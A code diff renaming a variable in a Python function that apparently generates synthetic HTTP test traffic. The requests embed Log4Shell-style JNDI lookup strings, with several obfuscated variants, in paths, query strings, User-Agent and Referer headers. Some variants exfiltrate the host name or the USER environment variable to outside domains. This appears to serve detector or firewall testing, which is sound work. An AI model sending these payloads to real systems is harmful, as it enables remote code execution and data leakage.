@@ -43,17 +43,17 @@ def lookup(r: R) -> Request:
     """Lookups that a logger follows; mostly in headers."""
     scheme = r.choice(("ldap", "rmi", "dns", "ldaps", "iiop"))
     host = f"{word(r)}.{word(r)}.com"
-    made = r.choice((f"${{jndi:{scheme}://{host}/{word(r)}}}", f"${{jndi:{scheme}://{host}:{r.randint(80, 9999)}/a}}",
+    payload = r.choice((f"${{jndi:{scheme}://{host}/{word(r)}}}", f"${{jndi:{scheme}://{host}:{r.randint(80, 9999)}/a}}",
         f"${{${{lower:j}}ndi:{scheme}://{host}/x}}", f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:{scheme}://{host}/x}}",
         f"${{j${{env:X:-n}}di:{scheme}://{host}/x}}", f"${{${{upper:j}}ndi:{scheme}://${{hostName}}.{host}}}",
         f"${{jndi:${{lower:l}}dap://{host}/${{env:USER}}}}", f"${{${{sys:x:-j}}ndi:rmi://{host}}}"))  # fmt: skip
     where = r.randint(0, 3)
     return Request(
         "GET",
-        r.choice(PATHS) if where else f"/{made}",
-        f"{word(r)}={made}" if where == 1 else None,
-        made if where == 2 else browser(r),
-        made if where == 3 else referer(r),
+        r.choice(PATHS) if where else f"/{payload}",
+        f"{word(r)}={payload}" if where == 1 else None,
+        payload if where == 2 else browser(r),
+        payload if where == 3 else referer(r),
     )
 
 
